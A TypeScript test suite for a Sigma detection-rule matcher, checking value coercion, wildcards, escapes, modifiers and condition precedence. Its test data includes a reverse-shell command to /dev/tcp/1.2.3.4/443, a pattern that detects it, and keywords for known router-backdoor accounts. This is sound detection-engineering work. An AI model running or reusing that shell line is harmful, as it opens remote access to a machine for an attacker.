// sigma-spec sections 5-7: values, wildcards, escapes, every modifier, the condition grammar.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { hit, matcher, errorsOf, warningsOf, ruleYaml } from './helpers.js';
import { base64Offsets, windashVariants } from '../../../src/detectors/sigma/items.js';

const sel = (item: Record<string, unknown>) => ({ sel: item, condition: 'sel' });
const err = (item: Record<string, unknown>) => errorsOf(ruleYaml(sel(item)));

test('V-2 type coercion: numbers, numeric strings, booleans; V-3 case-insensitive; V-4 whole value', () => {
  assert.equal(hit(sel({ dst_port: 23 }), { dst_port: '23' }), true);
  assert.equal(hit(sel({ dst_port: 23 }), { dst_port: 23.0 }), true);
  assert.equal(hit(sel({ blocked: 'false' }), { blocked: false }), true);
  assert.equal(hit(sel({ action: ['forward', 'accept', 2] }), { action: 2 }), true);
  assert.equal(hit(sel({ action: ['forward', 'accept', 2] }), { action: 'ACCEPT' }), true);
  assert.equal(hit(sel({ cmd: 'show running-config' }), { cmd: 'SHOW RUNNING-CONFIG' }), true);
  assert.equal(hit(sel({ 'cmd|cased': 'show running-config' }), { cmd: 'SHOW RUNNING-CONFIG' }), false);
  assert.equal(hit(sel({ cmd: 'show run' }), { cmd: 'show running-config' }), false);
});

test('V-5 empty string means present and empty; V-6 null means absent or null', () => {
  assert.equal(hit(sel({ user: '' }), { user: '' }), true);
  assert.equal(hit(sel({ user: '' }), {}), false);
  const n = matcher(sel({ PasswordLastSet: null }));
  assert.equal(n({}), true);
  assert.equal(n({ PasswordLastSet: null }), true);
  assert.equal(n({ PasswordLastSet: 'x' }), false);
  assert.equal(hit({ sel: { a: 'x' }, filt: { b: null }, condition: 'sel and not filt' }, { a: 'x', b: 'y' }), true);
  assert.equal(hit(sel({ f: [] }), {}), true, 'an empty list reads as null');
  assert.ok(warningsOf(ruleYaml(sel({ f: ['', null] }))).some((w) => /null inside a value list/.test(w)));
});

test('V-7 dotted names: literal key first, then nested objects', () => {
  const m = matcher(sel({ 'id.orig_h|cidr': '10.0.0.0/8' }));
  assert.equal(m({ 'id.orig_h': '10.1.1.1' }), true);
  assert.equal(m({ id: { orig_h: '10.1.1.1' } }), true);
  assert.equal(m({ id: { orig_h: '11.1.1.1' } }), false);
  assert.equal(hit(sel({ USER: 'root' }), { user: 'root' }), false, 'field names are case-sensitive');
});

test('V-8 arrays match when any element matches; with all, each value some element', () => {
  assert.equal(hit(sel({ 'answers|endswith': '.onion' }), { answers: ['1.2.3.4', 'x.onion'] }), true);
  assert.equal(hit(sel({ 'client_header_names|contains': 'AUTHORIZATION' }), { client_header_names: ['HOST', 'AUTHORIZATION'] }), true);
  const all = matcher(sel({ 'h|contains|all': ['host', 'auth'] }));
  assert.equal(all({ h: ['HOST', 'AUTHORIZATION'] }), true);
  assert.equal(all({ h: ['HOST', 'X'] }), false);
});

test('V-9 a condition on a missing field is false; not makes it true', () => {
  assert.equal(hit(sel({ a: 'x' }), {}), false);
  assert.equal(hit({ sel: { 'id.orig_h|cidr': '10.0.0.0/8' }, condition: 'not sel' }, { other: 1 }), true);
});

test('W-1..W-3 wildcards: * any run, ? one character, whole-value, case-insensitive, ** is *', () => {
  const w = matcher(sel({ USER: ['#-*', '#*4294967295'] }));
  assert.equal(w({ USER: '#-1' }), true);
  assert.equal(w({ USER: '#4294967295' }), true);
  assert.equal(w({ USER: 'root' }), false);
  const q = matcher(sel({ name: 'prog?.exe' }));
  assert.equal(q({ name: 'progA.exe' }), true);
  assert.equal(q({ name: 'prog.exe' }), false);
  assert.equal(q({ name: 'progAB.exe' }), false);
  assert.equal(hit(sel({ f: 'ab**c' }), { f: 'ABxyC' }), true);
  const star = matcher(sel({ f: '*' }));
  assert.equal(star({ f: '' }), true);
  assert.equal(star({}), false);
});

test('5.3 backslash escapes (single-quoted YAML values)', () => {
  const cases: [string, string, boolean][] = [
    ['a\\b', 'a\\b', true],
    ['a\\*b', 'a*b', true], ['a\\*b', 'aXb', false],
    ['a\\?b', 'a?b', true], ['a\\?b', 'aXb', false],
    ['a\\\\*b', 'a\\zzzb', true],
    ['a\\\\\\*b', 'a\\*b', true],
    ['a\\\\\\b', 'a\\\\b', true],
    ['a\\\\\\\\b', 'a\\\\b', true],
    ['x\\', 'x\\', true],
    ['C:\\Windows\\*', 'C:\\Windows*', true], ['C:\\Windows\\*', 'C:\\Windows\\System32\\cmd.exe', false],
    ['C:\\Windows\\\\*', 'C:\\Windows\\System32\\cmd.exe', true],
  ];
  for (const [rule, value, want] of cases) assert.equal(hit(sel({ f: rule }), { f: value }), want, `${rule} vs ${value}`);
});

test('E-1 / E-2 corpus escapes: literal \\\\*\\IPC$ and the four characters \\x00', () => {
  const e1 = matcher(sel({ path: '\\\\\\\\\\*\\\\IPC$' }));
  assert.equal(e1({ path: '\\\\*\\IPC$' }), true);
  assert.equal(e1({ path: '\\\\srv01\\IPC$' }), false);
  const e2 = matcher(sel({ 'answers|endswith': '\\\\x00' }));
  assert.equal(e2({ answers: ['abc\\x00'] }), true);
  assert.equal(e2({ answers: ['abc\u0000'] }), false);
});

test('M-0b/M-0c modifier validation', () => {
  assert.match(err({ 'cmd|startwith': 'x' })[0], /unknown modifier 'startwith'/);
  assert.match(err({ 'f|contains|re': 'x' })[0], /'re' must come first/);
  assert.match(err({ 'f|contains|cidr': '10.0.0.0/8' })[0], /'cidr' must come first/);
  assert.match(err({ 'f|i|re': 'x' })[0], /only allowed after 're'/);
  assert.match(err({ 'f|contains|base64offset': 'x' })[0], /must come before contains/);
  assert.match(err({ 'f|exists': 'yes' })[0], /'exists' takes true or false/);
  assert.match(err({ 'f|lt': 'abc' })[0], /'lt' takes a number/);
  assert.match(err({ '|exists': true })[0], /needs a field name/);
});

test('M-0e lint warnings (rule still loads)', () => {
  const w = (item: Record<string, unknown>) => warningsOf(ruleYaml(sel(item)));
  assert.ok(w({ 'f|all': ['a', 'b'] }).some((x) => /without 'contains'/.test(x)));
  assert.ok(w({ 'f|base64offset': 'x' }).some((x) => /base64offset' without 'contains'/.test(x)));
  assert.ok(w({ 'f|contains|contains': 'x' }).some((x) => /given twice/.test(x)));
  assert.ok(w({ 'f|contains|all': 'x' }).some((x) => /'all' on a single value/.test(x)));
  assert.ok(warningsOf(ruleYaml({ sel: { a: 1 }, unused: { b: 1 }, condition: 'sel' })).some((x) => /not used by the condition/.test(x)));
  assert.ok(warningsOf(ruleYaml({ sel: { a: 1 }, s2: { b: 1 }, condition: 'all of them' })).some((x) => /all of them/.test(x)));
});

test('M-contains / M-startswith / M-endswith', () => {
  assert.equal(hit(sel({ 'cmd|contains': 'crypto pki export' }), { cmd: 'Crypto PKI Export TP1 pem terminal' }), true);
  assert.equal(hit(sel({ 'cmd|contains': ['tftp', 'scp'] }), { cmd: 'copy running-config ftp://x' }), false);
  assert.equal(hit(sel({ 'operation|startswith': 'efs' }), { operation: 'EfsRpcOpenFileRaw' }), true);
  assert.equal(hit(sel({ 'operation|startswith': 'efs' }), { operation: 'xEfs' }), false);
  assert.equal(hit(sel({ 'query|endswith': '.onion' }), { query: 'abc.ONION' }), true);
  assert.equal(hit(sel({ 'query|endswith': '.onion' }), { query: 'onion.com' }), false);
  assert.equal(hit(sel({ 'f|endswith': 'a?' }), { f: 'xxab' }), true);
});

test('M-all: values ANDed', () => {
  const m = matcher(sel({ 'cmd|contains|all': ['bash -c', '/dev/tcp/'] }));
  assert.equal(m({ cmd: "bash -c 'sh >& /dev/tcp/1.2.3.4/443 0>&1'" }), true);
  assert.equal(m({ cmd: 'bash -c id' }), false);
  assert.equal(hit(sel({ 'f|all': ['a', 'b'] }), { f: 'a' }), false);
});

test('M-cased', () => {
  assert.equal(hit(sel({ 'cmd|contains|cased': 'SNMP' }), { cmd: 'snmp-server community x' }), false);
  assert.equal(hit(sel({ 'cmd|contains|cased': 'SNMP' }), { cmd: 'SNMP' }), true);
});

test('M-exists', () => {
  const t = matcher(sel({ 'rem_addr|exists': true }));
  assert.equal(t({ rem_addr: '' }), true);
  assert.equal(t({}), false);
  const f = matcher(sel({ 'rem_addr|exists': false }));
  assert.equal(f({}), true);
  assert.equal(f({ rem_addr: null }), false);
});

test('M-neq: negation of the item, false on absent fields (decision)', () => {
  const m = matcher(sel({ 'priv_lvl|neq': 15 }));
  assert.equal(m({ priv_lvl: 1 }), true);
  assert.equal(m({ priv_lvl: 15 }), false);
  assert.equal(m({}), false);
  const u = matcher(sel({ 'user|neq': ['netops', 'backup'] }));
  assert.equal(u({ user: 'eve' }), true);
  assert.equal(u({ user: 'NETOPS' }), false);
  assert.equal(hit(sel({ 'cmd|contains|neq': 'show' }), { cmd: 'conf t' }), true);
});

test('M-windash (pySigma semantics)', () => {
  const m = matcher(sel({ 'cmd|windash|contains': ' -s ' }));
  assert.equal(m({ cmd: 'tool /s x' }), true);
  assert.equal(m({ cmd: 'tool \u2013s x' }), true);
  assert.equal(m({ cmd: 'tool s x' }), false);
  assert.deepEqual(windashVariants('--force'), ['--force', '-/force', '-\u2013force', '-\u2014force', '-\u2015force']);
  assert.deepEqual(windashVariants('a-s'), ['a-s']);
});

test('M-re: unanchored search, case-sensitive, flags i m s, (?i) prefix, PCRE-only syntax refused', () => {
  const r = matcher(sel({ 'TargetFilename|re': '/mail/tmp/[a-zA-Z0-9]{3}[0-9]{3}\\.tar\\.gz' }));
  assert.equal(r({ TargetFilename: '/mail/tmp/abc123.tar.gz' }), true);
  assert.equal(r({ TargetFilename: '/mail/tmp/ABC12.tar.gz' }), false);
  assert.equal(hit(sel({ 'cmd|re': '^show (run|start)' }), { cmd: 'SHOW RUN' }), false);
  assert.equal(hit(sel({ 'cmd|re|i': '^show (run|start)' }), { cmd: 'SHOW RUN' }), true);
  assert.equal(hit(sel({ 'cmd|re': '(?i)^show (run|start)' }), { cmd: 'SHOW RUN' }), true);
  assert.equal(hit(sel({ 'msg|re|m': '^%SEC-6-IPACCESSLOG' }), { msg: 'line1\n%SEC-6-IPACCESSLOGP: list 101 denied' }), true);
  assert.equal(hit(sel({ 'msg|re': '^%SEC-6-IPACCESSLOG' }), { msg: 'line1\n%SEC-6-IPACCESSLOGP: list 101 denied' }), false);
  assert.equal(hit(sel({ 'msg|re|s': 'begin.end' }), { msg: 'begin\nend' }), true);
  assert.equal(hit(sel({ 'msg|re': 'begin.end' }), { msg: 'begin\nend' }), false);
  assert.equal(hit(sel({ 'cs-host|re': '.{150}' }), { 'cs-host': 'x'.repeat(151) }), true);
  assert.match(err({ 'f|re': '\\Afoo' })[0], /\\A/);
  assert.match(err({ 'f|re': 'a++' })[0], /possessive/);
  assert.match(err({ 'f|re': '(?>a)' })[0], /atomic/);
  assert.match(err({ 'f|re': '(unclosed' })[0], /invalid regular expression/);
});

test('M-base64 / M-base64offset / UTF-16 family', () => {
  assert.equal(hit(sel({ 'payload|base64': 'whoami' }), { payload: 'd2hvYW1p' }), true);
  assert.equal(hit(sel({ 'payload|base64|contains': 'show run' }), { payload: 'xxc2hvdyBydW4=yy' }), true);
  assert.match(err({ 'payload|base64': 'who*' })[0], /may not contain wildcards/);
  assert.deepEqual(base64Offsets(Buffer.from('whoami')), ['d2hvYW1p', 'dob2Fta', '3aG9hbW']);
  const off = matcher(sel({ 'payload|base64offset|contains': 'whoami' }));
  assert.equal(off({ payload: 'YWJ3aG9hbWk=' }), true);
  assert.equal(off({ payload: 'eHdob2FtaQ==' }), true);
  assert.equal(off({ payload: 'd2hvYW0=' }), false);
  assert.deepEqual(base64Offsets(Buffer.from('ping', 'utf16le')), ['cABpAG4AZw', 'AAaQBuAGcA', 'wAGkAbgBnA']);
  assert.equal(hit(sel({ 'payload|wide|base64offset|contains': 'ping' }), { payload: 'cABpAG4AZwAgADEALgAxAC4AMQAuADEA' }), true);
  assert.equal(hit(sel({ 'payload|utf16le|base64': 'cmd' }), { payload: 'YwBtAGQA' }), true);
  assert.equal(hit(sel({ 'payload|wide|base64': 'p\u00efng' }), { payload: Buffer.from('p\u00efng', 'utf16le').toString('base64') }), true, 'non-ASCII is encoded properly (decision)');
  assert.match(err({ 'payload|wide': 'x' })[0], /followed by base64/);
});

test('M-lt / lte / gt / gte: numbers; numeric strings converted; others no match', () => {
  const gt = matcher(sel({ 'request_body_len|gt': 0 }));
  assert.equal(gt({ request_body_len: 12 }), true);
  assert.equal(gt({ request_body_len: 0 }), false);
  assert.equal(gt({ request_body_len: '-' }), false);
  assert.equal(hit(sel({ 'dst_port|lt': 1024 }), { dst_port: '22' }), true);
  assert.equal(hit(sel({ 'n|lte': 5 }), { n: 5 }), true);
  assert.equal(hit(sel({ 'n|gte': 5 }), { n: 4 }), false);
});

test('M-minute..year: UTC parts, ISO weeks (week 53), comparisons, unreadable dates', () => {
  const h = matcher(sel({ 'timestamp|hour|gte': 22 }));
  assert.equal(h({ timestamp: '2026-03-14T23:15:00Z' }), true);
  assert.equal(h({ timestamp: '2026-03-14T08:15:00Z' }), false);
  assert.equal(hit(sel({ 'timestamp|week': 11 }), { timestamp: '2026-03-14T23:15:00Z' }), true);
  assert.equal(hit(sel({ 'timestamp|week': 53 }), { timestamp: '2026-12-31T10:00:00Z' }), true);
  assert.equal(hit(sel({ 'timestamp|hour': 23 }), { timestamp: 'not a date' }), false);
  assert.equal(hit(sel({ 'timestamp|minute': 15 }), { timestamp: 1773530100 }), true, 'epoch seconds');
  assert.equal(hit(sel({ 'timestamp|month': 3, 'timestamp|day': 14, 'timestamp|year': 2026 }), { timestamp: '2026-03-14T23:15:00Z' }), true);
});

test('M-cidr: IPv4 and IPv6, bare addresses, host bits refused, mapped IPv4, all', () => {
  const c = matcher(sel({ 'id.orig_h|cidr': ['10.0.0.0/8', '192.168.0.0/16'] }));
  assert.equal(c({ 'id.orig_h': '10.20.30.40' }), true);
  assert.equal(c({ 'id.orig_h': '11.0.0.1' }), false);
  assert.equal(c({ 'id.orig_h': '::ffff:10.1.2.3' }), true);
  assert.equal(c({ 'id.orig_h': 'not-an-ip' }), false);
  assert.equal(hit(sel({ 'src_ip|cidr': 'fe80::/10' }), { src_ip: 'FE80::1' }), true);
  assert.equal(hit(sel({ 'src_ip|cidr': '10.1.2.3' }), { src_ip: '10.1.2.3' }), true);
  assert.equal(hit(sel({ 'src_ip|cidr': '10.1.2.3' }), { src_ip: '10.1.2.4' }), false);
  assert.match(err({ 'src_ip|cidr': '10.0.0.1/8' })[0], /host bits/);
  assert.equal(hit(sel({ 'src_ip|cidr|all': ['10.0.0.0/8', '10.1.0.0/16'] }), { src_ip: '10.1.1.1' }), true);
  assert.equal(hit(sel({ 'src_ip|cidr|all': ['10.0.0.0/8', '10.1.0.0/16'] }), { src_ip: '10.2.1.1' }), false);
});

test('M-expand: placeholders from the configuration; literal without expand; unresolved refused', () => {
  const ph = { placeholders: { JumpServers: ['jump01', 'jump02*'] } };
  assert.equal(hit(sel({ 'host|expand': '%JumpServers%' }), { host: 'JUMP02-dc1' }, ph), true);
  assert.equal(hit(sel({ 'host|expand': '%JumpServers%' }), { host: 'web01' }, ph), false);
  assert.equal(hit(sel({ host: '%JumpServers%' }), { host: '%JumpServers%' }), true);
  assert.match(errorsOf(ruleYaml(sel({ 'host|expand': '%Unknown%' })))[0], /%Unknown%/);
});

test('M-fieldref: compare with another field of the same event', () => {
  assert.equal(hit(sel({ 'src_user|fieldref': 'dst_user' }), { src_user: 'admin', dst_user: 'Admin' }), true);
  assert.equal(hit(sel({ 'user|fieldref|neq': 'login_user' }), { user: 'root', login_user: 'alice' }), true);
  assert.equal(hit(sel({ 'user|fieldref|neq': 'login_user' }), { user: 'alice', login_user: 'alice' }), false);
  assert.equal(hit(sel({ 'cmd|fieldref|contains': 'user' }), { cmd: 'username bob priv 15', user: 'bob' }), true);
  assert.equal(hit(sel({ 'a|fieldref': 'b' }), { a: 'x' }), false, 'missing referenced field');
  assert.match(err({ 'a|fieldref': 'b*' })[0], /may not contain wildcards/);
});

const ids = (over: Record<string, unknown> = {}) => ({ a: { fa: 1 }, b: { fb: 1 }, c: { fc: 1 }, ...over });
const ev = (a: boolean, b: boolean, c = false) => ({ ...(a ? { fa: 1 } : {}), ...(b ? { fb: 1 } : {}), ...(c ? { fc: 1 } : {}) });

test('C-1 operators are lower-case; C-10 aggregation and near refused', () => {
  assert.match(errorsOf(ruleYaml({ ...ids(), condition: 'a AND b' }))[0], /lower-case/);
  assert.match(errorsOf(ruleYaml({ ...ids(), condition: 'a | count() by src_ip > 10' }))[0], /correlation/);
  assert.match(errorsOf(ruleYaml({ ...ids(), condition: 'a near b' }))[0], /near/);
});

test('C-2 precedence: or < and < not', () => {
  const m = matcher({ ...ids(), condition: 'a and not b or c' });
  assert.equal(m(ev(true, true, false)), false);
  assert.equal(m(ev(false, false, true)), true);
  assert.equal(m(ev(true, false, false)), true);
  const n = matcher({ ...ids(), condition: 'not a and b' });
  assert.equal(n(ev(false, true)), true);
  assert.equal(n(ev(true, true)), false);
  assert.equal(matcher({ ...ids(), condition: 'a or b and c' })(ev(false, true, false)), false);
  const f = matcher({ ...ids({ filter_1: { x: 1 }, filter_2: { y: 1 } }), condition: 'a and not 1 of filter_*' });
  assert.equal(f({ fa: 1 }), true);
  assert.equal(f({ fa: 1, y: 1 }), false);
});

test('C-3 parentheses', () => {
  const m = matcher({ ...ids(), condition: 'a and (b or c)' });
  assert.equal(m(ev(true, false, true)), true);
  assert.equal(m(ev(false, true, true)), false);
});

test('C-4 1 of / any of / all of patterns (the pattern matches whole names, * anywhere)', () => {
  const d = { selection: { dst_port: 23 }, selection_allow1: { action: 'accept' }, selection_allow2: { blocked: 'false' }, condition: 'selection and 1 of selection_allow*' };
  assert.equal(hit(d, { dst_port: 23, blocked: 'false' }), true);
  assert.equal(hit(d, { dst_port: 23, action: 'deny', blocked: 'true' }), false);
  assert.equal(hit({ selection: { x: 1 }, selection_b: { y: 1 }, condition: '1 of selection*' }, { x: 1 }), true);
  assert.equal(hit({ sel_a: { x: 1 }, sel_b: { y: 1 }, condition: 'all of sel_*' }, { x: 1 }), false);
  assert.equal(hit({ sel_a: { x: 1 }, sel_b: { y: 1 }, condition: 'any of sel_*' }, { y: 1 }), true);
  assert.equal(hit({ a_allow: { x: 1 }, b_allow: { y: 1 }, condition: '1 of *_allow' }, { y: 1 }), true);
});

test('C-5 / C-6 them and the underscore rule', () => {
  assert.equal(hit({ kw: ['foo'], _helper: { x: 1 }, condition: 'all of them' }, { raw: 'foo' }), true);
  const m = matcher({ _x1: { a: 1 }, x2: { b: 1 }, condition: '1 of *x*' });
  assert.equal(m({ a: 1 }), false);
  assert.equal(m({ b: 1 }), true);
  assert.equal(hit({ _x1: { a: 1 }, x2: { b: 1 }, condition: '1 of _x*' }, { a: 1 }), true);
});

test('C-7 a pattern matching nothing, C-8 unknown identifiers, C-9 dashes', () => {
  assert.match(errorsOf(ruleYaml({ sel: { a: 1 }, condition: 'sel or 1 of nothing*' }))[0], /matches no search identifier/);
  assert.match(errorsOf(ruleYaml({ sel: { a: 1 }, condition: 'sel and x' }))[0], /not a search identifier/);
  assert.equal(hit({ 'sel-a': { a: 1 }, condition: 'sel-a' }, { a: 1 }), true);
  assert.match(errorsOf(ruleYaml({ 'sel-a': { a: 1 }, condition: '1 of sel-*' }))[0], /invalid pattern/);
});

test('C-12 unused identifiers are legal', () => {
  assert.deepEqual(errorsOf(ruleYaml({ sel: { a: 1 }, other: { b: 1 }, condition: 'sel' })), []);
});

test('corpus-backed conditions', () => {
  const zbit = {
    z_flag_unset: { Z: 0 },
    most_probable_valid_domain: { 'query|contains': '.' },
    exclude_tlds: { 'query|endswith': ['.arpa', '.local'] },
    exclude_query_types: { qtype_name: ['NULL', 'MX'] },
    exclude_responses: { 'answers|endswith': '\\x00' },
    exclude_netbios: { 'id.resp_p': 137 },
    condition: 'not z_flag_unset and most_probable_valid_domain and not (exclude_tlds or exclude_query_types or exclude_responses or exclude_netbios)',
  };
  const m = matcher(zbit);
  assert.equal(m({ Z: 1, query: 'a.example.com', qtype_name: 'A', answers: ['1.2.3.4'], 'id.resp_p': 53 }), true);
  assert.equal(m({ Z: 0, query: 'a.example.com', qtype_name: 'A', answers: ['1.2.3.4'], 'id.resp_p': 53 }), false);
  assert.equal(m({ Z: 1, query: 'a.example.com', qtype_name: 'MX', answers: ['1.2.3.4'], 'id.resp_p': 53 }), false);
  const xe = matcher({
    keyword_event: ['%WEBUI-6-INSTALL_OPERATION_INFO:', '%SYS-5-CONFIG_P:', '%SEC_LOGIN-5-WEBLOGIN_SUCCESS:'],
    keyword_user: ['cisco_tac_admin', 'cisco_support', 'cisco_sys_manager'],
    condition: 'keyword_event and keyword_user',
  });
  assert.equal(xe({ raw: '%SYS-5-CONFIG_P: Configured programmatically by process SEP_webui_wsma_http from console as cisco_tac_admin on vty0' }), true);
  assert.equal(xe({ raw: '%SYS-5-CONFIG_P: Configured programmatically by process SEP_webui_wsma_http from console as netops on vty0' }), false);
});
